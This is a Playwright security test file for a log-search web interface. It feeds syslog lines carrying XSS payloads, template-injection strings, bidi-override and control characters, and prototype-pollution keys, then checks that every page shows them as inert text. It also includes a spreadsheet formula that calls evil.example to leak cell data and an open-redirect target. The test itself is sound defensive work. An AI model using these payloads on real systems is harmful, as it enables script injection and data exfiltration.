import type { BrowserContext, Page } from '@playwright/test';
import { connect } from 'node:net';
import { readFileSync } from 'node:fs';
import { once } from 'node:events';
import { rows, signIn } from './person';
import { expect, test, type Server } from './server';

// Log lines come from strangers. Whatever stands in them, a page shows it as text: nothing of it runs, loads, turns other text around or is taken as the page's own.
const script = '<script>alert(1)</script>';
const image = '<img/src=x/onerror=alert(1)>';
const link = 'javascript:alert(1)';
const braces = '{{constructor.constructor("alert(1)")()}}';
const turned = 'abc\u202egnp.exe';
const control = '\u001b[31mred\u0007\u0000\u0085\u2028';
const formula = "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")";
// Keys of a record become names of properties where a person's own source type says so (content/hostile).
const keys = [image, script, link, braces, turned, control, '=1+1', '"onmouseover="alert(1)', '__proto__', 'constructor', "'><svg onclick=alert(1)>", '日本'];
const record = (): string => `{"hostile":"1","user":"keys",${keys.map((k, i) => `${JSON.stringify(k)}:"value ${i}"`).join(',')}}`;
const lines = (): string[] => {
  const now = new Date().toISOString();
  return [
    // A host's name and what is not understood of it.
    `<13>1 ${now} ${image} ${script} - - - ${script} ${image} <a href="${link}">x</a> ${braces} ${turned} ${control} '"><svg onload=alert(1)>`,
    // Accounts: the words of Linux OS take everything up to the next blank.
    ...[image, script, link, braces, `"onmouseover="alert(1)`, '=1+1', '@SUM(A1)', turned].map((user, i) => `<86>1 ${now} bastion<b>01 sshd 42 - - Failed password for ${user} from 198.51.100.7 port ${4000 + i} ssh2`),
    `<86>1 ${now} bastion<b>01 sshd 42 - - Accepted password for ${image} from 198.51.100.7 port 4100 ssh2`,
    // A message that a spreadsheet would run.
    `${formula}`,
    record(),
  ];
};

test.beforeAll(async ({ server }) => {
  const socket = connect(server.ports['syslog-tcp']!, '127.0.0.1');
  await once(socket, 'connect');
  // Counted, for one of them holds what ends lines.
  for (const line of lines()) socket.write(`${Buffer.byteLength(line)} ${line}`);
  socket.end();
  await once(socket, 'close');
});

const n = lines().length;
// What people do is an event as well; these are the others.
const theirs = "LOGSOURCETYPENAME(devicetype) <> 'Portolan'";
async function arrived(context: BrowserContext, server: Server): Promise<void> {
  await expect.poll(async () => (await rows(context, server, `SELECT COUNT(*) FROM events WHERE ${theirs} LAST 1 HOURS`))[0]?.[0]).toBe(n);
}

test.beforeEach(async ({ context, server }) => {
  await signIn(context, server);
  await arrived(context, server);
});

/** Nothing that only a line could have made is in the document. */
async function harmless(page: Page): Promise<void> {
  const found = await page.evaluate(() => {
    const made: string[] = [];
    const look = (root: Document | ShadowRoot): void => {
      for (const e of root.querySelectorAll('*')) {
        if (e.shadowRoot) look(e.shadowRoot);
        if (e.tagName === 'IMG' || e.tagName === 'B' || (e.tagName === 'SCRIPT' && !(e as HTMLScriptElement).src)) made.push(e.outerHTML);
        for (const a of e.attributes) if (/^on/i.test(a.name) || (/^(href|src|action|formaction|xlink:href)$/i.test(a.name) && /^\s*(javascript|data|vbscript):/i.test(a.value))) made.push(e.outerHTML);
      }
    };
    look(document);
    return made;
  });
  expect(found).toEqual([]);
  // Neither seen nor said to those who do not see; times and the like of the page itself have none of these.
  const text = await page.evaluate(() => document.title + document.body.innerText + [...document.querySelectorAll('[title],[aria-label]')].map((e) => `${e.getAttribute('title')}${e.getAttribute('aria-label')}`).join(''));
  expect(text.match(/[\u202a-\u202e\u2066-\u2069\u001b\u0007\u0085\u2028]/gu)).toBeNull();
}

test('in the search: rows, fields, menus, detail and the event\'s own page', async ({ page, server }) => {
  await page.goto(`${server.url}/search?${new URLSearchParams({ q: "SELECT starttime, LOGSOURCENAME(logsourceid) AS 'Log source', username, sourceip, payload FROM events WHERE " + theirs, last: '1h' })}`);
  await expect(page.getByTestId('grid')).toHaveAttribute('data-rows', String(n));
  for (const text of [image, script, braces, 'abc\\u202egnp.exe', '\\x1b[31mred\\x07', '=HYPERLINK']) await expect(page.getByTestId('grid')).toContainText(text);
  await harmless(page);
  // A field's most frequent values.
  await page.getByTestId('fields').getByRole('button', { name: 'username', exact: false }).first().click();
  await expect(page.getByTestId('fields').getByRole('table')).toContainText(link);
  await harmless(page);
  // What to do with a value, and the condition that it becomes.
  await page.getByTestId('grid').getByText(link, { exact: true }).first().click();
  await expect(page.getByTestId('value-menu')).toContainText(link);
  await harmless(page);
  await page.getByRole('menuitem', { name: 'Only with this value' }).click();
  await expect(page.getByTestId('grid')).toHaveAttribute('data-rows', '1');
  await harmless(page);

  await page.goto(`${server.url}/search?${new URLSearchParams({ q: 'alert red', last: '1h' })}`);
  await expect(page.getByTestId('state')).toHaveAttribute('data-state', 'done');
  await page.goto(`${server.url}/search?${new URLSearchParams({ q: "SELECT starttime, payload FROM events WHERE UTF8(payload) LIKE '%svg onload%' AND " + theirs, last: '1h' })}`);
  await expect(page.getByTestId('grid')).toHaveAttribute('data-rows', '1');
  await page.getByTestId('grid').getByRole('row').nth(1).locator('.lead').click();
  await expect(page.getByTestId('payload')).toContainText(`${script} ${image} <a href="${link}">x</a> ${braces} abc\\u202egnp.exe \\x1b[31mred\\x07\\x00`);
  await harmless(page);
  await page.getByTestId('permalink').click();
  await expect(page).toHaveURL(/\/event\//);
  await expect(page.getByTestId('payload')).toContainText(image);
  await harmless(page);
});

test('in a chart, its legend and its table', async ({ page, server }) => {
  for (const view of ['table', 'bar', 'line']) {
    await page.goto(`${server.url}/search?${new URLSearchParams({ q: 'SELECT username, COUNT(*) AS n FROM events GROUP BY username', last: '1h', view })}`);
    await expect(page.getByTestId(view === 'table' ? 'grid' : 'chart')).toContainText(view === 'table' ? image : '<img');
    await harmless(page);
  }
});

test('on the overview, the sources, the ledger and the pages of an address, a user and a host', async ({ context, page, server }) => {
  const sources = (await (await context.request.get(`${server.url}/api/portolan/log-sources`)).json()) as { sources: { id: number }[] };
  expect(sources.sources.length).toBeGreaterThan(0);
  const user = encodeURIComponent(image);
  for (const [path, text] of [
    ['/overview', image],
    ['/sources', '<b>01'],
    ...sources.sources.map((s) => [`/sources/${s.id}`, ''] as const),
    ['/ledger', ''],
    ['/address/198.51.100.7', image],
    [`/user/${user}`, image],
    [`/user/${encodeURIComponent(turned)}`, 'abc\\u202egnp.exe'],
    [`/host/${user}`, image],
    [`/nothing/${user}`, 'There is no such page'],
  ] as const) {
    await page.goto(server.url + path);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect(page.getByText('Loading…')).toHaveCount(0);
    if (text) await expect(page.locator('body')).toContainText(text);
    await harmless(page);
  }
});

test('a property\'s name, wherever it is shown', async ({ context, page, server }) => {
  const [found] = await rows(context, server, "SELECT eventid FROM events WHERE username = 'keys' LAST 1 HOURS");
  await page.goto(`${server.url}/event/${String(found![0])}`);
  await expect(page.getByTestId('payload')).toContainText('value 11');
  // What turns text around or drives a terminal becomes no name; the payload has it.
  for (const text of [image, script, link, '{{constructor.constructor(', '=1+1', '__proto__', 'constructor', '日本']) await expect(page.locator('dl, table').filter({ hasText: text }).first()).toBeVisible();
  await harmless(page);
  // As a column, and as what the editor completes.
  const names = [image, script, link, '=1+1', '__proto__', 'constructor', '日本'].map((k) => `"${k.replaceAll('"', '""')}"`).join(', ');
  await page.goto(`${server.url}/search?${new URLSearchParams({ q: `SELECT ${names} FROM events WHERE username = 'keys'`, last: '1h' })}`);
  await expect(page.getByTestId('grid')).toHaveAttribute('data-rows', '1');
  for (const text of [image, script, 'value 11']) await expect(page.getByTestId('grid')).toContainText(text);
  await harmless(page);
  await page.getByRole('button', { name: 'Export' }).click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('menuitem', { name: 'All rows as CSV' }).click()]);
  const head = readFileSync(await download.path(), 'utf8').split('\r\n')[0]!;
  expect(head).toContain("'=1+1");
  expect(head).not.toMatch(/(^|,)"?[=+@]/);
});

test('a link\'s own words are text, and it leads nowhere else', async ({ complaints, page, server }) => {
  // Texts that are no AQL are refused.
  complaints.expected.push(/status of (400|422) /);
  for (const q of [script, `SELECT "${image}" FROM events`, "SELECT username AS '<img src=x onerror=alert(1)>' FROM events"]) {
    await page.goto(`${server.url}/search?${new URLSearchParams({ q, last: '1h' })}`);
    await expect(page.getByTestId('state')).not.toHaveAttribute('data-state', 'running');
    await harmless(page);
  }
  await page.goto(`${server.url}/sign-in?back=${encodeURIComponent('//evil.example/')}`);
  await harmless(page);
});

test('a spreadsheet does not run what was exported', async ({ page, server }) => {
  await page.goto(`${server.url}/search?${new URLSearchParams({ q: 'SELECT username, UTF8(payload) AS line FROM events WHERE ' + theirs, last: '1h' })}`);
  await expect(page.getByTestId('grid')).toHaveAttribute('data-rows', String(n));
  await page.getByRole('button', { name: 'Export' }).click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('menuitem', { name: 'All rows as CSV' }).click()]);
  const text = readFileSync(await download.path(), 'utf8');
  expect(text).toContain("\r\n'=1+1,");
  expect(text).toContain("\r\n'@SUM(A1),");
  expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1;""x"")"`);
  expect(text).not.toMatch(/(^|[,\n]|[,\n]")[=+@]/);
});
